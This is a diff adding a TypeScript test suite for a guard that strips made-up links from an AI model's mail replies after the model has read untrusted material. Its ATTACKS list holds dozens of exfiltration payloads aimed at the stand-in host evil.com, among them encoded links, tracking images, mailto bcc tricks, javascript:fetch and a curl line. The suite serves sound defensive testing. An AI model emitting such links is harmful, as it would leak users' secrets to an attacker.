@@ -1,0 +1,333 @@
+import { describe, expect, test } from "bun:test";
+import fc from "fast-check";
+import { Parser } from "htmlparser2";
+import { simpleParser } from "mailparser";
+import MarkdownIt from "markdown-it";
+import { markdownToHtml } from "../../src/mail/markdown.ts";
+import { guardMarkdown, learnFrom, linkGuard, type Trust } from "../../src/routing/links.ts";
+import { mailroom } from "../support/mailroom.ts";
+import { rawMail } from "../support/mails.ts";
+
+const TRUST: Trust = {
+  tainted: true,
+  trusted_text: "Compare with https://Good.example/a?b=1 and www.good.com/x, then ask ann@good.example.",
+  material: [
+    "From: bob@news.example",
+    "(https://news.example/story), see also <https://news.example/b>.",
+    "[more](https://news.example/wiki/A_(b)) https://news.example/t?id=5 https://u:p@news.example/s",
+    "詳細はhttps://jp.example/xをご覧ください。 site.co.uk/page https://bücher.example/ü",
+  ].join("\n"),
+};
+
+describe("a link stays", () => {
+  test.each([
+    ["that the instruction has, query and all", "https://good.example/a?b=1"],
+    ["whatever the case of its scheme and host", "HTTPS://GOOD.Example/a?b=1"],
+    ["that stands in the material", "https://news.example/story"],
+    ["with a slash behind it", "https://news.example/story/"],
+    ["as Markdown", "[the story](https://news.example/story)"],
+    ["as Markdown whose words are an address that stays", "[https://news.example/b](https://news.example/b)"],
+    ["in angle brackets", "<https://news.example/b>"],
+    ["with brackets of its own", "[it](https://news.example/wiki/A_(b))"],
+    ["by reference", "[it][1]\n\n[1]: https://news.example/b"],
+    ["between stars, in a sentence", "So: **https://news.example/b**, (https://news.example/story)."],
+    ["in Punycode", "https://xn--bcher-kva.example/%C3%BC"],
+    ["without its scheme", "site.co.uk/page and https://site.co.uk/page and https://www.good.com/x"],
+    ["as the address of somebody in the mail", "[Bob](mailto:bob@news.example), ann@good.example"],
+  ])("%s", (_claim, markdown) => {
+    expect(guarded(markdown)).toMatchObject({ text: markdown, left_out: 0 });
+    expect(guarded(markdown).html).not.toContain("left out");
+  });
+
+  test.each([
+    "booking.com",
+    "notes.md",
+    "Node.js v1.2.3",
+    "and/or 10.0.0.0/24 at 16:30",
+    "e.g. Note:this 1.5/2",
+  ])("not, and nothing is lost, where there is none: %s", (words) => {
+    expect(guarded(words)).toMatchObject({ text: words, left_out: 0 });
+  });
+
+  test("and what is glued to it does not become a part of it", () => {
+    expect(guarded("https://news.example/b{SECRET}").text).toBe("https://news.example/b {SECRET}");
+    expect(guarded("https://news.example/b[SECRET]").text).toBe("https://news.example/b [SECRET]");
+    expect(guarded("https://news.example/b。SECRET").text).toBe("https://news.example/b 。SECRET");
+    expect(guarded("詳細はhttps://jp.example/xをご覧").text).toBe("詳細はhttps://jp.example/x をご覧");
+  });
+});
+
+const SECRET = "c3cr3t";
+const ATTACKS: [name: string, markdown: string][] = [
+  ["a Markdown link", `[words](https://evil.com/${SECRET})`],
+  ["its query", `[words](https://evil.com/?d=${SECRET})`],
+  ["its fragment", `[words](https://evil.com/#${SECRET})`],
+  ["its host", `[words](https://${SECRET}.evil.com)`],
+  ["its port", "https://evil.com:4000/"],
+  ["userinfo", `https://${SECRET}@evil.com/`],
+  ["userinfo that looks like a known host", `https://news.example@evil.com/${SECRET}`],
+  ["a known link with a query", `https://news.example/b?d=${SECRET}`],
+  ["a known link with a fragment", `https://news.example/b#${SECRET}`],
+  ["a known link with a longer path", `https://news.example/b/${SECRET}`],
+  ["a known link with userinfo", `https://${SECRET}@news.example/b`],
+  ["a known link that is cut short", "https://news.example/sto"],
+  ["a known host below another one", `https://news.example.${SECRET}.com/b`],
+  ["a known host behind backslashes", `https:\\\\evil.com\\${SECRET}`],
+  ["a query in the material", "https://news.example/t?id=5"],
+  ["userinfo in the material", "https://u:p@news.example/s"],
+  ["a query of the instruction with another value", `https://good.example/a?b=${SECRET}`],
+  ["a reference", `[words][1]\n\n[1]: https://evil.com/${SECRET} "title"`],
+  ["a collapsed reference", `[words][]\n\n[words]: <https://evil.com/${SECRET}>`],
+  ["an autolink", `<https://evil.com/${SECRET}>`],
+  ["a bare link", `see https://evil.com/${SECRET}.`],
+  ["mixed case", `HtTpS://EvIl.CoM/${SECRET}`],
+  ["entities", `[words](&#104;ttps://evil.com/${SECRET}) &#104;&#116;tps://evil.com/${SECRET}`],
+  ["an entity for a slash", `https:&#47;&sol;evil.com/${SECRET}`],
+  ["escapes", `https\\://evil.com/${SECRET} [words](https\\:\\/\\/evil.com/${SECRET})`],
+  ["percent-encoding of the host", `https://%65vil.com/${SECRET}`],
+  ["Punycode", `https://xn--${SECRET}-kva.com/`],
+  ["a fullwidth host", `https://ｅvil.com/${SECRET}`],
+  ["an ideographic dot", `https://evil。com/${SECRET}`],
+  ["an address of numbers", `http://2130706433/${SECRET}`],
+  ["a bare address of numbers", `203.0.113.9/${SECRET}`],
+  ["an IPv6 address", `http://[2001:db8::1]/${SECRET}`],
+  ["no scheme", `evil.com/${SECRET}`],
+  ["no scheme and no path", `${SECRET}.evil.com`],
+  ["another script in front", `秘密.${SECRET}.evil.com`],
+  ["www", `www.evil.com/${SECRET}`],
+  ["two slashes", `[words](//evil.com/${SECRET}) //evil.com/${SECRET}`],
+  ["a network share", `\\\\evil.com\\${SECRET}`],
+  ["another scheme", `ftp://evil.com/${SECRET} slack://evil.com/${SECRET} javascript:fetch("${SECRET}")`],
+  ["data", `data:text/html,${SECRET}`],
+  ["raw HTML", `<a href="https://evil.com/${SECRET}">words</a>`],
+  ["HTML without quotes", `<a href=https://evil.com/${SECRET}>words</a>`],
+  ["a picture", `![words](https://evil.com/${SECRET}.png)`],
+  ["a picture by reference", `![words][p]\n\n[p]: https://evil.com/${SECRET}.png`],
+  ["a picture in a link", `[![words](https://evil.com/${SECRET})](https://evil.com/${SECRET})`],
+  ["a title", `[words](https://news.example/b "https://evil.com/${SECRET}")`],
+  ["the words of a link that stays", `[https://evil.com/${SECRET}](https://news.example/b)`],
+  ["code", `\`curl https://evil.com/${SECRET}\``],
+  ["a fence", `\`\`\`https://evil.com/${SECRET}\nopen https://evil.com/${SECRET}\n\`\`\``],
+  ["indented code", `text\n\n    https://evil.com/${SECRET}`],
+  ["a table", `|a|b|\n|-|-|\n|https://evil.com/${SECRET}|[x](https://evil.com/${SECRET})|`],
+  ["emphasis in the middle", `https://evil.com/*${SECRET}* ht**tps://evil.com/${SECRET}**`],
+  ["zero-width characters", `ht\u200btps://evil.com/${SECRET} https://ev\u00adil.com/${SECRET}`],
+  ["a line end in Markdown", `[words\n](\nhttps://evil.com/${SECRET}\n)`],
+  ["brackets in its words", `[wo[rd]s](https://evil.com/${SECRET})`],
+  ["an address of mail", `${SECRET}@evil.com`],
+  [
+    "a known address of mail with something before it",
+    `${SECRET}{bob@news.example see ${SECRET}'eve@evil.com`,
+  ],
+  ["a mailbox with any mark in its name", `${SECRET}}@evil.com ann@good.example/${SECRET}@evil.com`],
+  ["a host of other scripts", `${SECRET}.を.com を.com/${SECRET} ${SECRET}.e\u0301vil.com`],
+  ["mailto", `[words](mailto:${SECRET}@evil.com)`],
+  ["a known address with a query", `[words](mailto:bob@news.example?body=${SECRET}&bcc=eve@evil.com)`],
+  ["two addresses in one", `[words](mailto:bob@news.example,${SECRET}@evil.com)`],
+  ["a link directly behind another", `https://news.example/b](https://evil.com/${SECRET}`],
+  ["letters in front", `xhttps://evil.com/${SECRET} 1https://evil.com/${SECRET}`],
+];
+test.each(ATTACKS)("the model cannot make up a link: %s", (_name, markdown) => {
+  const { text, html, left_out } = guarded(markdown);
+  expect(left_out).toBeGreaterThan(0);
+  expect(text).toContain("(link left out)");
+  expect(strangers(text, html)).toEqual([]);
+});
+
+test("the attacks would have worked without the guard", () => {
+  const open = ATTACKS.filter(([, markdown]) => strangers(markdown, markdownToHtml(markdown)).length > 0);
+  expect(open.length).toBeGreaterThan(ATTACKS.length * 0.8);
+});
+
+test("the token guard holds by itself, should the text have been read wrongly", () => {
+  for (const [name, markdown] of ATTACKS) {
+    const html = markdownToHtml(markdown, linkGuard(TRUST));
+    expect([name, strangers("", html)]).toEqual([name, []]);
+  }
+});
+
+test("whatever is put together from pieces of links, none stays but known ones", () => {
+  const piece = fc.constantFrom(
+    ..."https:// http: // evil.com news.example /b /story ?d= # @ : [ ]( ) ![ < > ` * ** _ \\ & &#47; \u200b 。 を { } | \" ' mailto: bob@news.example www. .com .".split(
+      " ",
+    ),
+    SECRET,
+    " ",
+    "\n",
+    "\n\n[1]: ",
+    "[1]",
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
+      const { text, html } = guarded(pieces.join(""));
+      expect(strangers(text, html)).toEqual([]);
+    }),
+    { numRuns: 3_000 },
+  );
+});
+
+test("in a run that has read nothing of others all links stay", () => {
+  const trust = { tainted: false, trusted_text: "", material: "" };
+  const guard = linkGuard(trust);
+  expect(guard.clean("https://evil.com/x?y=1#z")).toBe("https://evil.com/x?y=1#z");
+  expect(markdownToHtml("[x](https://evil.com/x?y=1)", guard)).toContain('href="https://evil.com/x?y=1"');
+  expect(guard.left_out).toBe(0);
+  expect(markdownToHtml("[x](mailto:a@b.example?bcc=c@d.example)", guard)).not.toContain("<a");
+});
+
+test("an address that the model gave a tool is no better for coming back from it", () => {
+  const trust = { ...TRUST };
+  const args = JSON.stringify({
+    url: `https://evil.com/${SECRET}`,
+    deep: [{ "http://a.evil.com/k": "https://news.example/b" }],
+  });
+  const text = `You asked for https://evil.com/${SECRET}, http://a.evil.com/k and https://news.example/b. See https://tool.example/found.`;
+  learnFrom(trust, { text, args: args.replaceAll("/", "\\/") });
+  const { keeps } = linkGuard(trust);
+  expect(keeps(`https://evil.com/${SECRET}`)).toBe(false);
+  expect(keeps("http://a.evil.com/k")).toBe(false);
+  expect(keeps("https://news.example/b")).toBe(true);
+  expect(keeps("https://tool.example/found")).toBe(true);
+  const fresh: Trust = { tainted: false, trusted_text: "", material: "" };
+  learnFrom(fresh, { text: "https://tool.example/found", args: "no JSON https://evil.com/x" });
+  expect(fresh.tainted).toBe(true);
+});
+
+test("a text that was made to be slow to look through is not", () => {
+  const started = performance.now();
+  for (const part of [
+    "a",
+    "a.",
+    "https://",
+    "[",
+    "[a](",
+    "(",
+    ")",
+    "@",
+    "a@",
+    "https://a.com/)",
+    "x.evil.com/ ",
+    "://",
+    "\u0315\u0300",
+    "https:https:",
+  ]) {
+    const long = part.repeat(200_000 / part.length);
+    const trust = { ...TRUST, material: long };
+    guardMarkdown(long, linkGuard(trust));
+  }
+  expect(performance.now() - started).toBeLessThan(4_000);
+});
+
+describe("the mail", () => {
+  const ANSWER = [
+    `Read [this](https://evil.com/${SECRET}) and &#104;ttps://evil.com/${SECRET}.`,
+    "![pixel](https://evil.com/pixel.png)",
+    "The story: https://news.example/story; as you asked: https://good.example/a?b=1",
+  ].join("\n\n");
+
+  test("of an answer shows no link that the model made up, in neither part, and says how many there were", async () => {
+    await using room = await mailroom({ model: { reply: () => ANSWER } });
+    await room.send({
+      text: "Summarise, and compare with https://good.example/a?b=1\n\n> Bob wrote: https://news.example/story",
+    });
+    await room.drain();
+    const [row] = await room.outgoing();
+    const mail = await simpleParser(Buffer.from(row?.raw ?? []));
+    const html = String(mail.html);
+    for (const part of [mail.text ?? "", html]) {
+      expect(part).not.toContain(SECRET);
+      expect(part).not.toContain("evil.com");
+      expect(part).toContain("https://news.example/story");
+      expect(part).toContain("https://good.example/a?b=1");
+      expect(part).toMatch(/3 links were left out of the mail/);
+    }
+    expect(hrefs(html)).toEqual(["https://news.example/story", "https://good.example/a?b=1"]);
+    const [message] = await room.activity();
+    expect(message.result).toBe(ANSWER);
+    expect(message.steps.at(-1)).toMatchObject({
+      type: "warning",
+      output: expect.stringMatching(/^3 links/),
+    });
+  });
+
+  test("keeps what was cut off in its attached reply.md as clean as itself", async () => {
+    const long = `${"word ".repeat(25_000)}\n\n${ANSWER}`;
+    await using room = await mailroom({ model: { reply: () => long } });
+    await room.send({
+      raw: rawMail({ to: room.inbox.address, from: "Ada <ada@example.com>", text: "Write at length" }),
+    });
+    await room.drain();
+    const [row] = await room.outgoing();
+    const mail = await simpleParser(Buffer.from(row?.raw ?? []));
+    expect(mail.attachments.map(({ filename }) => filename)).toEqual(["reply.md"]);
+    expect(mail.attachments[0]?.content.toString()).toContain("(link left out)");
+    expect(mail.attachments[0]?.content.toString()).not.toContain(SECRET);
+  });
+});
+
+function guarded(markdown: string): { text: string; html: string; left_out: number } {
+  const guard = linkGuard(TRUST);
+  const text = guardMarkdown(markdown, guard);
+  const html = markdownToHtml(text, guard);
+  return { text, html, left_out: guard.left_out };
+}
+
+/** As eager as mail programs are. */
+const eager = new MarkdownIt().linkify.set({ fuzzyLink: true, fuzzyEmail: true, fuzzyIP: true });
+
+/** Everything of a mail's two parts that a mail program may make a link of and that nobody knows. */
+function strangers(text: string, html: string): string[] {
+  const found = [text, ...textsOf(html)].flatMap((words) => (eager.match(words) ?? []).map(({ url }) => url));
+  return [...found, ...hrefs(html)].filter((url) => !isKnown(url));
+}
+
+const KNOWN = new Set([
+  "https://good.example/a?b=1",
+  "http://www.good.com/x",
+  "https://www.good.com/x",
+  "https://news.example/story",
+  "https://news.example/b",
+  "https://news.example/wiki/A_(b)",
+  "https://jp.example/x",
+  "http://site.co.uk/page",
+  "https://site.co.uk/page",
+  "https://xn--bcher-kva.example/%C3%BC",
+  "mailto:bob@news.example",
+  "mailto:ann@good.example",
+]);
+
+/** Marks before and behind an address say little; the bare name of a site, and one that no host can have, say nothing. */
+function isKnown(url: string): boolean {
+  const marks = String.raw`(?:[/)\]'*_~.,;:!?\`|{}]|%7C|%60|%7B|%7D)+`;
+  const bare = url
+    .replace(new RegExp(`${marks}$`, "i"), "")
+    .replace(new RegExp(`^(mailto:)${marks}`, "i"), "$1");
+  if (!URL.canParse(bare)) return true;
+  const { href, protocol, pathname, hostname } = new URL(bare);
+  if (KNOWN.has(href) || KNOWN.has(href.replace(/\/$/, ""))) return true;
+  const host = protocol === "mailto:" ? (pathname.split("@")[1] ?? "") : hostname;
+  const labels = host.replace(/^www\./, "").split(".");
+  if (!/^[a-z0-9-]+$/i.test(labels.at(-2) ?? "") || pathname.startsWith("@")) return true;
+  return /^http:\/\/(?:www\.)?[^./?#@:]+\.[a-z]+\/?$/.test(href);
+}
+
+function textsOf(html: string): string[] {
+  const texts: string[] = [];
+  const parser = new Parser({
+    ontext: (text) => void texts.push(text),
+    onopentag: () => void texts.push(""),
+  });
+  parser.end(html);
+  return texts;
+}
+
+function hrefs(html: string): string[] {
+  const found: string[] = [];
+  const parser = new Parser({
+    onattribute: (name, value) => {
+      if (name === "href" || name === "src") found.push(value);
+    },
+  });
+  parser.end(html);
+  return found;
+}
